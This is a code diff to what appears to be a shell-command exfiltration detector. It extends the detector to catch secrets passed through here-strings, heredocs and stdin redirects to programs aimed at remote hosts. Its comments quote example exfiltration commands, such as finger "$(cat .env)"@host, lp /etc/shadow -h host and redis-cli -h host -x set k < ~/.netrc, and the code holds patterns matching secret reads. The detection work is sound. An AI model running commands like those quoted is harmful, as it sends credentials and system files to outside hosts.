@@ -142,6 +142,7 @@ function sinkArgHits(s: Stage, src: string, hits: Hit[]): void {
     const data = oauthExchange(outboundData(s), s.text);
     const [st] = at(s.argv[0]);
     const stdin = cmd.redirects.find((r) => r.op === "<" && SENSITIVE_PATH.test(r.target.text));
+    const fed = fedSecret(cmd.stdin);
     // a header may carry an API token ($TOKEN), but not the output of a command that reads secrets
     // (a CLI's token helper in an auth header, `Authorization: token $(gh auth token)`, is that token: auth, not data)
     const headers = headerData(s).replace(
@@ -163,7 +164,12 @@ function sinkArgHits(s: Stage, src: string, hits: Hit[]): void {
     // inline code's auth header from one named variable is judged by the token's owner, as the code scan does
     const envData = CODE_RUNNERS.has(name) ? authHeadersOff(data) : data;
     const secret =
-      SENSITIVE_PATH.exec(data)?.[0] ?? ENV_INLINE.exec(envData)?.[0] ?? varSent ?? headerSecret ?? stdin?.target.text;
+      SENSITIVE_PATH.exec(data)?.[0] ??
+      ENV_INLINE.exec(envData)?.[0] ??
+      varSent ??
+      headerSecret ??
+      stdin?.target.text ??
+      fed;
     if (!secret) tokenHostHits(s, headers, literalHost(s, host), path, st, hits);
     if (secret) {
       hits.push(
@@ -236,14 +242,17 @@ function otherSinkHits(s: Stage, hits: Hit[]): void {
         ),
       );
   }
-  // any other program given a remote host and a secret (finger "$(cat .env)"@host, lp /etc/shadow -h host, hping3 --file …)
+  // any other program given a remote host and a secret (finger "$(cat .env)"@host, lp /etc/shadow -h host, hping3 --file …,
+  // mosquitto_pub -h host -f .env, redis-cli -h host -x set k < ~/.netrc): the remote and the data make it a sink
   if (!isNetwork(s) && !DNS.has(name) && !LOCAL_ONLY.has(name)) {
-    const data = s.argv
+    const redirected = cmd.redirects.find((r) => r.op === "<" && SENSITIVE_PATH.test(r.target.text))?.target.text;
+    const args = s.argv
       .slice(1)
-      .filter((_w, i, a) => !(i > 0 && /^-(?:i|f|C|k|-identity|F)$/.test(a[i - 1].text)))
+      .filter((_w, i, a) => !(i > 0 && /^-(?:i|C|k|-identity|F)$/.test(a[i - 1].text)))
       // an identity file inside a carried ssh command (--ssh-cmd 'ssh -i ~/.ssh/key') is a key used, not sent
       .map((w) => w.text.replace(/(?:^|\s)-i\s+\S+/g, " "))
       .join(" ");
+    const data = `${args} ${redirected ?? ""} ${fedSecret(cmd.stdin) ?? ""}`;
     const secret =
       SENSITIVE_PATH.exec(data)?.[0] ?? /\$\(\s{0,3}(?:env|printenv|cat\s+[^)]{0,40}\.env)[^)]{0,40}\)/.exec(data)?.[0];
     const host = secret ? hostOf(s) : null;
@@ -259,6 +268,16 @@ function otherSinkHits(s: Stage, hits: Hit[]): void {
       hits.push(hit("bash.exfil-args", "bash_exfil", 0.9, cmd.start, cmd.end, `${secret.trim()} → ${name} to ${host}`));
     }
   }
+}
+
+/** A here-string or heredoc whose text a substitution fills from a secret (`<<< "$(printenv)"`, `<<< "$(< ~/.npmrc)"`). */
+function fedSecret(stdin: Word[]): string | undefined {
+  for (const w of stdin) {
+    if (!/\$\(|`/.test(w.text)) continue;
+    const found = ENV_INLINE.exec(w.text)?.[0] ?? SENSITIVE_PATH.exec(w.text)?.[0];
+    if (found) return found;
+  }
+  return undefined;
 }
 
 /** Where stdin is a program, not data: "-", /dev/stdin and its aliases. */
